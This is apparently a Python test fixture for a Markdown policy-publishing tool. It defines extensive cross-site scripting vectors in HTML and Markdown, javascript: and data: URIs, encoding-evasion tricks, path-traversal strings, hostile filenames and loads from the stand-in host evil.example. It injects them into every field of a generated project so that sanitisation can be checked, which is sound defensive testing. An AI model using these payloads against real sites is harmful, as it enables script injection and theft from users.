"""Words that would run a script, or ask another site, if a page let them, and a project that is full of them.

``RUN`` leaves a mark that a browser can be asked for. Each vector is Markdown, as an author could write it in a body;
`hostile` puts it into every place of a version that takes words.
"""

from __future__ import annotations

import re
import unicodedata
from datetime import date, timedelta
from typing import TYPE_CHECKING
from urllib.parse import quote

from tests.projects import project

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

RUN = "window.pwned=1"
AWAY = "https://evil.example"
FIRST = date(2020, 1, 1)
ON = FIRST + timedelta(400)
"""A day on which all hostile versions are posted: most are superseded, one is in force, some are pending."""

_EVENTS = re.findall(
    r"\S+",
    """
    onload onerror onclick onmouseover onfocus onblur onanimationend onanimationstart ontransitionend ontoggle
    onpointerenter onpointerrawupdate onauxclick oncopy onwheel onscroll onbeforetoggle
    oncontentvisibilityautostatechange
    """,
)

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script>{RUN}",
    f"<script>{RUN}<!--",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</article></main><script>{RUN}</script>",
    f"</code></pre><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<?php echo '<script>{RUN}</script>' ?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>&y;",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<script src={AWAY}/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={AWAY}/></iframe>",
    f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<embed src='data:image/svg+xml,<svg onload={RUN}>'>",
    f"<applet code=javascript:{RUN}></applet>",
    f"<base href=javascript:/{RUN}//>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<link rel=prefetch href={AWAY}/x>",
    f"<link rel=preload as=script href={AWAY}/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    f"<link rel=import href={AWAY}/x.html>",
    f"<link rel=manifest href={AWAY}/x.json>",
    f"<style>@import '{AWAY}/x.css';</style>",
    f"<style>body{{background:url({AWAY}/x)}}</style>",
    f"<style><img src=x onerror={RUN}></style>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=9 y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a><set attributeName=href to=javascript:{RUN}></a></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x'></svg>",
    f"<svg><image href={AWAY}/x.svg></svg>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<form action=javascript:{RUN}><input type=submit id=x></form><button form=x>x</button>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video src={AWAY}/x.mp4 poster={AWAY}/x.png>",
    f"<audio src=x onerror={RUN}>",
    f"<picture><source srcset={AWAY}/x><img></picture>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<body background={AWAY}/x>",
    f"<table background=javascript:{RUN}><tr><td>x</table>",
    f"<bgsound src={AWAY}/x>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='x' ping={AWAY}/>x</a>",
    f"<a id=x tabindex=1 onfocus={RUN}>x</a>",
    f"<area href=javascript:{RUN}>",
    f"<xss contenteditable onbeforeinput={RUN}>x</xss>",
    f"<x-y style=animation-name:x onanimationstart={RUN}>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><p title='</xmp><svg/onload={RUN}>'>",
    f"<img src=x onerror={RUN}>",
    "<img src=x:x onerror=alert(1)>",
    f"<img/src='x'/onerror={RUN}>",
    f"<img src='x'onerror={RUN}>",
    f"<img src=x\tonerror={RUN}>",
    f"<img src=x\x0conerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<img src=`x`onerror={RUN}>",
    "<img src=x onerror=&#119;indow.pwned&#61;1>",
    f"<img src={AWAY}/x.png>",
    f"<img srcset='{AWAY}/x.png 2x'>",
    f"<img lowsrc=javascript:{RUN} dynsrc=javascript:{RUN}>",
    f"<div style='background:url({AWAY}/x)'>x</div>",
    f"<div style='width:expression({RUN})'>x</div>",
    f'<div style="behavior:url({AWAY}/x.htc)">x</div>',
    f"<\x00script>{RUN}</script>".replace("\x00", "&#0;"),
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u02bascript\u02ba onerror={RUN}",
    f"\u2028<script>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"\\<script>{RUN}\\</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "{{ self.__init__.__globals__ }}<script>{{ '" + RUN + "' }}</script>",
    "{% raw %}<script>" + RUN + "</script>{% endraw %}",
    "{{ '<script>" + RUN + "</script>' | safe }}",
    "{{constructor.constructor('" + RUN + "')()}}",
    "${alert(1)}`-alert(1)-`",
    "';alert(1);//\";alert(1);//--></script><script>alert(1)</script>",
    (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e"
    ),
    *(f"<p tabindex=1 style='transition:1s' {event}={RUN}>x</p>" for event in _EVENTS),
    *(f'" {event}="{RUN}' for event in ("onmouseover", "onfocus", "onload", "onerror")),
    *(f"' {event}='{RUN}" for event in ("onmouseover", "onfocus", "onload", "onerror")),
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"><img src=x onerror={RUN}>",
    f'"/><svg onload={RUN}>',
    f'" autofocus tabindex=1 onfocus={RUN} x="',
    f"&quot; onfocus={RUN} autofocus tabindex=1 x=&quot;",
    f"&#34; onfocus={RUN} autofocus tabindex=1 x=&#34;",
    f"` onfocus={RUN} `",
)
"""HTML as it could be pasted into a policy, whole or cut."""

_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3A;{RUN}",
    f"javascript&#0000058;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61;vascript:{RUN}",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + RUN,
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java&#9;script:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&#13;script:{RUN}",
    f"java&#0;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#x20;javascript:{RUN}",
    f"&nbsp;javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\x1fscript:{RUN}",
    f"java\u200bscript:{RUN}",
    f"java\u00adscript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"\u2028javascript:{RUN}",
    f"\u3000javascript:{RUN}",
    f"java%0ascript:{RUN}",
    f"java%09script:{RUN}",
    f"%6aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"%01javascript:{RUN}",
    f"%20javascript:{RUN}",
    f"java\\script:{RUN}",
    f"javascript\\:{RUN}",
    f"\\javascript:{RUN}",
    f"javascript://{AWAY}/%0a{RUN}",
    f"javascript:/*x*/{RUN}",
    f"javascript:{RUN}//mailto:",
    f"x:javascript:{RUN}",
    f"http:javascript:{RUN}",
    f"mailto:x?body=javascript:{RUN}",
    f"./javascript:{RUN}",
    f"?javascript:{RUN}",
    f"#javascript:{RUN}",
    f"vbscript:{RUN}",
    f"vbs&#99;ript:{RUN}",
    f"livescript:{RUN}",
    f"mocha:{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>".replace("<", "%3C").replace(">", "%3E"),
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+",
    "data:image/png,text/html;base64,PHNjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA:text/html,x",
    "data&colon;text/html,x",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "ms-settings:privacy",
    "intent://x#Intent;scheme=javascript;end",
    "feed:javascript:alert(1)",
    "jar:https://evil.example!/x",
    "//evil.example/x.png",
    "\\\\evil.example\\x.png",
    "/\\evil.example/x.png",
    "/%2Fevil.example/x.png",
    "/%5Cevil.example/x.png",
    "%2F%2Fevil.example/x.png",
    "https:evil.example/x.png",
    "https:\\\\evil.example\\x.png",
    "https&#58;//evil.example/x.png",
    "http://evil.example@127.0.0.1/x.png",
    "..%2f..%2f..%2fetc%2fpasswd",
    "../../../../etc/passwd",
    f'x" onerror={RUN} y="',
    f"x' onerror={RUN} y='",
    f"x&quot; onerror={RUN} y=&quot;",
    f"x&#34; onerror={RUN}&#32;y=&#34;",
    f"x%22%20onerror={RUN}",
    f"x`onerror={RUN}`",
)
"""Targets of links and images that lead where a policy must not."""

MARKDOWN = (
    *(f"[x](<{one}>) ![x](<{one}>)" for one in _SCHEMES),
    f"[x](javascript:{RUN})",
    f"[x]( javascript:{RUN} )",
    f"[x](\njavascript:{RUN}\n)",
    f"![x](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"<JAVASCRIPT:{RUN}>",
    f"<javascript&colon;{RUN}>",
    "<data:text/html,x>",
    f"<vbscript:{RUN}>",
    f'<x@evil.example"onmouseover={RUN}>',
    f'<https://evil.example/"onmouseover={RUN}>',
    f"<https://evil.example/?<script>{RUN}</script>>",
    f'<mailto:x@evil.example?subject="onmouseover={RUN}>',
    f"[x]\n\n[x]: javascript:{RUN}",
    f'[x][y]\n\n[y]: <javascript:{RUN}> "x"',
    f"![x][y]\n\n[y]: {AWAY}/x.png '\" onload={RUN} x=\"'",
    f"[x]\n\n[x]: java&#115;cript:{RUN}",
    f"[x][]\n\n> [x]: javascript:{RUN}",
    f'[X]\n\n[x]: x ("onfocus={RUN} autofocus)',
    f'[x](x "\\" onmouseover={RUN} y=\\"")',
    f"[x](x '\" onmouseover={RUN} y=\"')",
    f'[x](x ("><script>{RUN}</script>))',
    f'[x](x "&quot; onmouseover={RUN}")',
    f"![x](x.png '\"><script>{RUN}</script>')",
    f'![" onerror={RUN} y="](x.png)',
    f"![<script>{RUN}</script>](x.png)",
    f"![![](javascript:{RUN})](x.png)",
    f"![[x](javascript:{RUN})](x.png)",
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f"[a [b](javascript:{RUN}) c](javascript:{RUN})",
    f"[a](x)](javascript:{RUN})",
    f"[[[[x]]]](javascript:{RUN})",
    f"[x](javascript:{RUN} 'y' )*z*",
    f"[`x`](javascript:{RUN})`](javascript:{RUN})",
    f"**[x](javascript:{RUN}**)",
    f"[x](<javascript:{RUN})",
    f"[x](java<!-- -->script:{RUN})",
    f"[x](((javascript:{RUN})))",
    f"[\u202ex](javascript:{RUN})",
    f"[x\n\ny](javascript:{RUN})",
    f'``` " onload={RUN} x="\nx\n```',
    f'```html"><script>{RUN}</script>\nx\n```',
    f"~~~ '><img/src=x/onerror={RUN}>\nx\n~~~",
    f"```x&quot;onload={RUN}\nx\n```",
    f"```x\n</code></pre><script>{RUN}</script>\n```",
    f"    <script>{RUN}</script>",
    f"`<script>{RUN}</script>`",
    f"``x` onload={RUN} `` <b>",
    f"| a |\n|---|\n| <script>{RUN}</script> |",
    f'| a |\n|:-" onload={RUN}:|\n| x |',
    f'| " style="x | y |\n|:--|--:|\n| `</td><script>{RUN}</script>` | x |',
    f"# <script>{RUN}</script>",
    f'# x" onload={RUN} y="',
    f"## x {{#y onload={RUN}}}",
    f'## " id="x"><script>{RUN}</script>',
    "# __proto__\n\n# constructor\n\n# cookie\n\n# location\n\n# _main\n\n# _c1",
    f"1. <script>{RUN}</script>\n2) [x](javascript:{RUN})",
    f"> <script>\n> {RUN}\n> </script>",
    f"- [ ] <input onfocus={RUN} autofocus>",
    f"x  \n<script>{RUN}</script>",
    f"x\\\n<svg onload={RUN}>",
    f"***<b onclick={RUN}>*x**y***",
    f"<script>\n\n{RUN}\n\n</script>",
    f"<div>\n\n[x](javascript:{RUN})\n\n</div>",
    f"&lt;img src=x onerror={RUN}&gt; &#x26;lt;script&#x26;gt;",
    f'[x]: x "\n<script>{RUN}</script>\n"\n\n[x]',
    f"\ue000<script>{RUN}</script>\ufffc![x](x onerror={RUN})",
    f"www.evil.example/<script>{RUN}</script>",
    f"[^1]\n\n[^1]: <script>{RUN}</script>",
    f":javascript:{RUN}: ^^<b>^^ ~~<s onclick={RUN}>~~ ==x==",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"*[x]: <script>{RUN}</script>\n\nx",
)
"""The same through what Markdown offers."""

VECTORS = (*ELEMENTS, *MARKDOWN)

PICTURES = (
    "seal.png",
    f'" onerror="{RUN}.png',
    f"' onerror='{RUN}.png",
    f"<img src=x onerror={RUN}>.png",
    f"<script>{RUN}<.png",
    f"javascript:{RUN}.png",
    "data:image,x.png",
    "https:evil.example.png",
    "\\\\evil.example\\x.png",
    "%22onerror%3D.png",
    "%2e%2e%2f%2e%2e%2fx.png",
    "a b\tc.png",
    "line\nbreak.png",
    "#fragment?query.png",
    "-rf.png",
    "CON.png",
    "...png",
    "\u202egnp.png",
    "x;onerror=1.webp",
    "&quot;onerror&#61;1.gif",
    "{{ 1 }}{% x %}.jpg",
)
"""Names of pictures: they become addresses as they are, percent-encoded."""


def one_line(vector: str) -> str:
    """A vector as front matter can hold it: nothing that nobody sees is let in there."""
    words = "".join(" " if unicodedata.category(sign) in {"Cc", "Cs", "Zl", "Zp"} else sign for sign in vector)
    return " ".join(words.translate(dict.fromkeys((*range(0x202A, 0x202F), *range(0x2066, 0x206A)))).split())


def body(vector: str) -> str:
    """A text with a vector in every place that Markdown has."""
    line = one_line(vector)
    return "\n\n".join(
        (
            f"# {line}",
            f"{line}\n---",
            f"- {line}\n- > {line}",
            f"1. {line}",
            f"| {line} | y |\n|---|:-:|\n| {line} | *{line}* |",
            f"[{line}]({line} '{line}') [x](<{line}> \"{line}\") [{line}][y]",
            f"![{line}]({line} \"{line}\") ![x](<{line}> '{line}')",
            f"<{line}> `{line}` **{line}** _{line}_",
            f"```{line}\n{line}\n```",
            f"~~~ {line}\n{line}\n~~~",
            f"    {line}",
            f"[y]: <{line}> '{line}'",
            vector,
        )
    )


def _quoted(words: str) -> str:
    return "'" + words.replace("'", "''") + "'"


def versions(vectors: tuple[str, ...]) -> Iterator[tuple[str, str]]:
    """A version for each vector, by the name of its file; it follows another's, so that both are marked."""
    for number, vector in enumerate(vectors):
        posted = FIRST + timedelta(number + 80)
        line = _quoted(one_line(vector))
        header = [
            f"title: {line}",
            f"posted: {posted}",
            f"effective: {posted + timedelta(20)}",
            f"summary: {line}",
            f"reason: {line}",
            f"version: {line}",
            f"postponed: [{{announced: {posted + timedelta(1)}, to: {posted + timedelta(40)}, note: {line}}}]",
        ]
        yield f"v{number:03}.md", "\n".join(["---", *header, "---", "", body(vector), ""])


def hostile(folder: Path, vectors: tuple[str, ...] = VECTORS) -> Path:
    """A project in which every place that takes words holds a vector."""
    title = one_line("".join(vectors[:9])).replace("\\", "\\\\").replace('"', '\\"')
    files: dict[str, str | bytes] = {f"vectors/{name}": text for name, text in versions(vectors)}
    shown = "\n\n".join(f"![{quote(name)}](<{quote(name)}>) [x]({quote(name)})" for name in PICTURES)
    files["pictures/2020-01-10.md"] = f"---\ntitle: Pictures\nposted: 2020-01-10\n---\n\n{shown}\n"
    files |= {f"pictures/{name}": b"\x89PNG\r\n\x1a\n" for name in PICTURES}
    settings = (
        f'[tool.inforce]\ntitle = "{title}"\nbase-url = "http://inforce.test"\n[tool.inforce.policies.pictures]\n'
    )
    return project(folder, files, settings=settings + f'title = "{title}"\n')
